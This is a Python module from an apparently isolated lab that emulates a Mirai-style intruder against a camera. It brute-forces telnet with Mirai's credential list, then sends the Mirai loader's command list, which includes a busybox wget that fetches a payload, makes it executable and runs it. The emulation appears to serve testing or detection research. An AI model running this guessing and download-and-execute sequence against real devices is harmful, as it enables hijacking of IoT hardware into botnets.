"""The stranger who breaks into the camera: guesses its telnet with Mirai's list, and types what Mirai's loader types.

    python -m lab.intruder --state FILE

Runs only in the lab's internet (see `guard`). Prints two JSON lines: when it guessed and when it was inside, and how
many logins and commands that took.
"""

import argparse
import json
import time
from pathlib import Path
from typing import Final

from lab import plan
from lab.guard import Permit, obtain_outside
from lab.telnet import attempt, session

TARGET: Final = plan.WAN_GATEWAY
"""The router's outside address, whose port 23 leads to the camera."""
PAUSE: Final = 0.6  # s between two connections
THINK: Final = 0.3  # s before each command
TYPED: Final = (
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "/bin/busybox ps; /bin/busybox ECCHI",
    "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
    ">/var/.nippon && cd /var/; /bin/busybox ECCHI",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
    f"/bin/busybox wget {plan.PAYLOAD_URL} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
    "./dvrHelper telnet.arm7; /bin/busybox ECCHI",
    "rm -rf dvrHelper; /bin/busybox ECCHI",
)
"""What the loader types. At the other end is `lab.shell`, which runs none of it."""


def guess(permit: Permit) -> int:
    """Try one login of Mirai's list after another, a connection each; none of these is right."""
    for n in permit.paced(len(plan.MIRAI_GUESSES), 1 / PAUSE):
        attempt(permit.check(TARGET), *plan.MIRAI_GUESSES[n], source=permit.source)
    return len(plan.MIRAI_GUESSES)


def enter(permit: Permit) -> int:
    """Log in with the one that is right, and type."""
    return session(permit.check(TARGET), plan.CAMERA_TELNET_LOGIN, TYPED, permit.source, THINK)


def main() -> None:
    parser = argparse.ArgumentParser(description="Emulates an intruder, inside the lab of record.py only.")
    parser.add_argument("--state", type=Path, required=True, help="the file in which the lab notes its namespaces")
    permit = obtain_outside(parser.parse_args().state)
    for phase, action in (("guessed", guess), ("entered", enter)):
        start = time.time()
        count = action(permit)
        print(json.dumps({"phase": phase, "start": start, "end": time.time(), "count": count}), flush=True)


if __name__ == "__main__":
    main()
